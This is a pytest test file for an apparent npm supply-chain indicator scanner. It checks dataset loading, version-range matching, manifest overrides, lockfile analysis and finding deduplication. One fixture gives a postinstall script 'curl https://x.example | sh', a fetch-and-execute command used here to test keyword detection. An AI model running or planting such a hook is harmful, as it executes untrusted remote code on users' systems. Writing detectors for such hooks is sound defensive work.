import json
from pathlib import Path

import pytest

from hulud_ioc.scan_core import dataset as dataset_mod
from hulud_ioc.scan_core.aggregator import (
    FindingAggregator,
    dedupe_findings,
    dedupe_matches,
    determine_severity,
    finding_from_match,
    format_match_message,
)
from hulud_ioc.scan_core.dataset import build_dataset, normalize_entries, parse_colon_delimited, resolve_dataset
from hulud_ioc.scan_core.models import Finding, FindingKind, LockMatch, ManifestMatch
from hulud_ioc.scan_core.scanners.lockfiles import analyze_lockfile, derive_name_from_path
from hulud_ioc.scan_core.scanners.manifest import (
    analyze_manifest,
    detect_postinstall_keyword,
    evaluate_manifest_spec,
    flatten_resolution_entries,
    normalize_resolution_key,
)
from hulud_ioc.scan_core.versions import classify_specifier, match_range, parse_npm_alias, sort_versions


def _write_json(path: Path, payload: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(payload), encoding="utf-8")


def _index(**packages):
    return build_dataset([{"name": name.replace("_", "-"), "versions": list(vs)} for name, vs in packages.items()])


def test_build_dataset_isolates_malformed_records() -> None:
    index = build_dataset(
        [
            {"name": "alpha", "versions": [" 1.0.0 ", "", "1.0.1"]},
            {"name": "x"},
            {"name": "", "versions": ["1.0.0"]},
            {"name": "empty", "versions": ["  "]},
            "not-a-record",
            {"name": "beta", "versions": "1.0.0"},
        ]
    )
    assert index.packages == {"alpha": frozenset({"1.0.0", "1.0.1"})}
    assert len(index.malformed) == 5
    assert "x" not in index
    assert index.version_count() == 2


def test_build_dataset_last_record_wins_for_repeated_names() -> None:
    index = build_dataset(
        [
            {"name": "alpha", "versions": ["1.0.0"]},
            {"name": "alpha", "versions": ["2.0.0"]},
        ]
    )
    assert index.get("alpha") == frozenset({"2.0.0"})


def test_parse_colon_delimited_skips_comments_and_blank_lines() -> None:
    text = "# header\n\n@scope/pkg: 1.0.0, 1.0.1\nplain:2.0.0,,\nnoversions\n"
    assert parse_colon_delimited(text) == [
        {"name": "@scope/pkg", "versions": ["1.0.0", "1.0.1"]},
        {"name": "plain", "versions": ["2.0.0"]},
        {"name": "noversions"},
    ]


def test_normalize_entries_rejects_non_list_json() -> None:
    assert normalize_entries('[{"name": "a", "versions": ["1.0.0"]}]', "inline") == [
        {"name": "a", "versions": ["1.0.0"]}
    ]
    with pytest.raises(ValueError):
        normalize_entries('{"name": "a"}', "inline")
    with pytest.raises(ValueError):
        normalize_entries("\n# only comments\n", "inline")


def test_resolve_dataset_prefers_local_argument(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.delenv("HULUD_IOC_DATASET_URL", raising=False)
    data = tmp_path / "dataset.json"
    _write_json(data, [{"name": "alpha", "versions": ["1.0.0"]}])

    source = resolve_dataset(str(data))

    assert source.meta.source == "local"
    assert source.meta.path == str(data.resolve())
    assert source.entries == [{"name": "alpha", "versions": ["1.0.0"]}]


def test_resolve_dataset_falls_back_when_fetch_fails(tmp_path: Path, monkeypatch) -> None:
    data = tmp_path / "fallback.json"
    _write_json(data, [{"name": "alpha", "versions": ["1.0.0"]}])
    monkeypatch.setenv("HULUD_IOC_DATASET", str(data))

    def failing_fetch(url: str, timeout: int):
        raise ValueError("HTTP 503")

    monkeypatch.setattr(dataset_mod, "fetch_dataset_from_url", failing_fetch)

    source = resolve_dataset("https://feeds.example.com/dataset.json", quiet=True)

    assert source.meta.source == "local-fallback"
    assert source.meta.fallback_from == "https://feeds.example.com/dataset.json"
    assert source.meta.last_error == "HTTP 503"
    assert source.meta.entries == 1


def test_resolve_dataset_uses_remote_default_from_environment(monkeypatch) -> None:
    monkeypatch.setenv("HULUD_IOC_DATASET_URL", "https://feeds.example.com/default.json")
    monkeypatch.setattr(
        dataset_mod,
        "fetch_dataset_from_url",
        lambda url, timeout: [{"name": "remote", "versions": ["9.9.9"]}],
    )

    source = resolve_dataset()

    assert source.meta.source == "remote-default"
    assert source.identifier == "https://feeds.example.com/default.json"
    assert build_dataset(source.entries).get("remote") == frozenset({"9.9.9"})


def test_match_range_returns_sorted_subset() -> None:
    candidates = ["1.10.0", "1.2.0", "2.0.0", "1.9.9"]
    assert match_range("^1.2.0", candidates) == ["1.2.0", "1.9.9", "1.10.0"]
    assert match_range(">=3.0.0", candidates) == []
    assert match_range("not a range", candidates) == []


def test_match_range_includes_prereleases() -> None:
    assert match_range("^1.0.0", ["1.2.0-beta.1", "0.9.0-rc.1"]) == ["1.2.0-beta.1"]


def test_prerelease_bounds_do_not_widen_to_release() -> None:
    assert match_range("1.2.3-beta.5", ["1.2.3"]) == []
    assert match_range("1.2.3-beta.5", ["1.2.3-beta.5", "1.2.3-beta.4"]) == ["1.2.3-beta.5"]
    assert match_range("1.2.3-beta.1 - 1.2.3-beta.5", ["1.2.3", "1.2.3-beta.3"]) == ["1.2.3-beta.3"]
    assert match_range(">1.2.3-alpha <1.2.3", ["1.2.3", "1.2.3-beta"]) == ["1.2.3-beta"]
    assert match_range("^1.2.3-beta.1", ["1.2.3-alpha", "1.2.3-beta.2", "1.4.0", "2.0.0-rc.1"]) == [
        "1.2.3-beta.2",
        "1.4.0",
    ]


def test_match_range_accepts_spaced_operators() -> None:
    assert match_range(">= 1.0.0", ["0.9.0", "1.2.0"]) == ["1.2.0"]
    assert match_range(">= 1.0.0 <= 2.0.0 || ^ 3.1.0", ["2.0.0", "2.1.0", "3.2.0"]) == ["2.0.0", "3.2.0"]


def test_sort_versions_puts_invalid_last() -> None:
    assert sort_versions(["1.10.0", "garbage", "1.2.0"]) == ["1.2.0", "1.10.0", "garbage"]


def test_parse_npm_alias_handles_scoped_names() -> None:
    plain = parse_npm_alias("npm:left-pad@1.0.0")
    scoped = parse_npm_alias("npm:@scope/pkg@2.0.0")
    bare = parse_npm_alias("npm:@scope/pkg")

    assert (plain.name, plain.selector) == ("left-pad", "1.0.0")
    assert (scoped.name, scoped.selector) == ("@scope/pkg", "2.0.0")
    assert (bare.name, bare.selector) == ("@scope/pkg", None)
    assert parse_npm_alias("1.0.0") is None


@pytest.mark.parametrize(
    "spec,expected",
    [
        (None, "name-only"),
        (42, "unsupported"),
        ("npm:left-pad@1.0.0", "alias"),
        ("1.2.3", "exact"),
        ("~1.2.0", "range"),
        (">= 1.0.0 <= 2.0.0", "range"),
        ("git+https://example.com/repo.git", "unsupported"),
    ],
)
def test_classify_specifier(spec, expected) -> None:
    assert classify_specifier(spec) == expected


def test_exact_pin_yields_single_manifest_exact() -> None:
    index = _index(event_stream=["3.3.6"])
    matches = evaluate_manifest_spec("event-stream", "runtime", "3.3.6", index)
    assert len(matches) == 1
    assert matches[0].kind is FindingKind.MANIFEST_EXACT
    assert matches[0].matches == ("3.3.6",)


def test_range_and_name_only_matches() -> None:
    index = _index(chalk=["5.6.1"])
    ranged = evaluate_manifest_spec("chalk", "dev", "^5.0.0", index)
    bundled = evaluate_manifest_spec("chalk", "bundled", None, index)
    safe = evaluate_manifest_spec("chalk", "runtime", "^4.0.0", index)

    assert [(m.kind, m.matches) for m in ranged] == [(FindingKind.MANIFEST_RANGE, ("5.6.1",))]
    assert [m.kind for m in bundled] == [FindingKind.MANIFEST_NAME_ONLY]
    assert safe == []


def test_prerelease_pin_does_not_flag_release() -> None:
    index = _index(debug=["4.4.2"])
    assert analyze_manifest({"dependencies": {"debug": "4.4.2-rc.1"}}, index) == []
    assert [m.kind for m in analyze_manifest({"dependencies": {"debug": ">= 4.4.0"}}, index)] == [
        FindingKind.MANIFEST_RANGE
    ]


def test_alias_specifier_checks_alias_target() -> None:
    index = _index(left_pad=["1.0.0"])
    matches = evaluate_manifest_spec("pad", "runtime", "npm:left-pad@1.0.0", index)
    assert len(matches) == 1
    assert matches[0].target == "left-pad"
    assert matches[0].alias_of == "pad"
    assert matches[0].kind is FindingKind.MANIFEST_EXACT


def test_analyze_manifest_covers_all_sections() -> None:
    index = _index(alpha=["1.0.0"], beta=["2.0.0"], gamma=["3.0.0"])
    manifest = {
        "dependencies": {"alpha": "1.0.0"},
        "devDependencies": {"beta": "^2.0.0"},
        "bundledDependencies": ["gamma"],
        "peerDependencies": {"unrelated": "*"},
    }
    matches = analyze_manifest(manifest, index)
    assert [(m.dependency, m.section, m.kind) for m in matches] == [
        ("alpha", "runtime", FindingKind.MANIFEST_EXACT),
        ("beta", "dev", FindingKind.MANIFEST_RANGE),
        ("gamma", "bundled", FindingKind.MANIFEST_NAME_ONLY),
    ]
    assert analyze_manifest(["not", "a", "manifest"], index) == []


def test_flatten_nested_override_keeps_trail() -> None:
    entries = flatten_resolution_entries("a", {"b": "npm:c@1.0.0"})
    assert len(entries) == 1
    entry = entries[0]
    assert entry.name == "b"
    assert entry.spec == "npm:c@1.0.0"
    assert entry.trail == ("a", "b")
    assert entry.pattern == "a -> b"


def test_flatten_override_handles_dot_arrays_and_paths() -> None:
    dotted = flatten_resolution_entries("parent", {".": "1.0.0", "child": ["2.0.0", "3.0.0"]})
    assert [(e.name, e.spec) for e in dotted] == [("parent", "1.0.0"), ("child", "2.0.0"), ("child", "3.0.0")]

    pathed = flatten_resolution_entries("**/wrapper/debug", "4.4.2")
    assert [(e.name, e.alt_targets) for e in pathed] == [("**/wrapper/debug", ("debug",)), ("debug", ())]


def test_flatten_override_respects_depth_budget() -> None:
    nested: object = "1.0.0"
    for level in range(10):
        nested = {f"level{level}": nested}
    assert flatten_resolution_entries("root", nested, max_depth=3) == []
    assert len(flatten_resolution_entries("root", nested, max_depth=64)) == 1


@pytest.mark.parametrize(
    "key,expected",
    [
        ("npm:debug", "debug"),
        ("**/debug", "debug"),
        ("foo>@scope/bar", "@scope/bar"),
        ("parent > child", "child"),
    ],
)
def test_normalize_resolution_key(key, expected) -> None:
    assert normalize_resolution_key(key) == expected


def test_override_path_key_reports_raw_and_terminal_names() -> None:
    index = _index(debug=["4.4.2"])
    matches = analyze_manifest({"resolutions": {"**/wrapper/debug": "4.4.2"}}, index)
    assert [(m.dependency, m.target, m.section, m.pattern) for m in matches] == [
        ("**/wrapper/debug", "debug", "resolution", "**/wrapper/debug"),
        ("debug", "debug", "resolution", "**/wrapper/debug"),
    ]


def test_pnpm_overrides_alias_target() -> None:
    index = _index(c=["1.0.0"])
    matches = analyze_manifest({"pnpm": {"overrides": {"a": {"b": "npm:c@1.0.0"}}}}, index)
    assert len(matches) == 1
    assert matches[0].kind is FindingKind.MANIFEST_EXACT
    assert matches[0].alias_of == "b"
    assert matches[0].pattern == "a -> b"


def test_detect_postinstall_keyword() -> None:
    assert detect_postinstall_keyword({"scripts": {"postinstall": "curl https://x.example | sh"}}) == (
        "curl https://x.example | sh",
        "curl ",
    )
    assert detect_postinstall_keyword({"scripts": {"postinstall": "node scripts/build.js"}}) is None
    assert detect_postinstall_keyword({"scripts": "invalid"}) is None


def test_derive_name_from_path() -> None:
    assert derive_name_from_path("node_modules/left-pad") == "left-pad"
    assert derive_name_from_path("node_modules/a/node_modules/@scope/pkg") == "@scope/pkg"
    assert derive_name_from_path("packages\\app\\node_modules\\b") == "b"
    assert derive_name_from_path("") is None


def test_analyze_lockfile_reads_packages_and_dependency_tree() -> None:
    index = _index(left_pad=["1.3.0"], debug=["4.4.2"])
    lock = {
        "lockfileVersion": 2,
        "packages": {
            "": {"name": "app", "version": "1.0.0"},
            "node_modules/left-pad": {"version": "1.3.0"},
            "node_modules/safe": {"version": "1.0.0"},
        },
        "dependencies": {
            "express": {
                "version": "4.0.0",
                "dependencies": {"debug": {"version": "4.4.2"}},
            }
        },
    }
    matches = analyze_lockfile(lock, index)
    assert [(m.name, m.version, m.location) for m in matches] == [
        ("left-pad", "1.3.0", "node_modules/left-pad"),
        ("debug", "4.4.2", "express > debug"),
    ]


def test_determine_severity_defaults_to_medium() -> None:
    assert determine_severity(FindingKind.MANIFEST_EXACT) == "high"
    assert determine_severity("manifest-range") == "medium"
    assert determine_severity(FindingKind.MANIFEST_ERROR) == "low"
    assert determine_severity("something-new") == "medium"


def test_format_match_message_mentions_alias_and_pattern() -> None:
    match = ManifestMatch(
        kind=FindingKind.MANIFEST_RANGE,
        dependency="b",
        section="override",
        selector="^1.0.0",
        target="c",
        matches=("1.0.0", "1.0.1"),
        alias_of="b",
        pattern="a -> b",
    )
    message = format_match_message(match)
    assert "alias of b" in message
    assert "a -> b" in message
    assert "1.0.0, 1.0.1" in message


def test_dedupe_is_idempotent_and_never_grows() -> None:
    lock = LockMatch(kind=FindingKind.LOCK_INSTALLED, name="a", version="1.0.0", location="node_modules/a")
    items = [lock, lock, LockMatch(kind=FindingKind.LOCK_INSTALLED, name="a", version="1.0.0", location="x")]
    once = dedupe_matches(items)
    assert len(once) == 2
    assert dedupe_matches(once) == once

    finding = finding_from_match(lock, "package-lock.json")
    findings = [finding, Finding(**{**finding.__dict__})]
    assert len(dedupe_findings(findings)) == 1


def test_finding_aggregator_counts_and_dedupes() -> None:
    aggregator = FindingAggregator()
    lock = LockMatch(kind=FindingKind.LOCK_INSTALLED, name="a", version="1.0.0", location="node_modules/a")
    finding = finding_from_match(lock, "package-lock.json")
    aggregator.extend([finding, finding])
    aggregator.add(
        Finding(kind=FindingKind.MANIFEST_ERROR, severity="low", path="broken/package.json", message="bad")
    )
    assert aggregator.counts == {"high": 2, "medium": 0, "low": 1}

    aggregator.dedupe()
    assert aggregator.counts == {"high": 1, "medium": 0, "low": 1}
    assert len(aggregator.findings) == 2
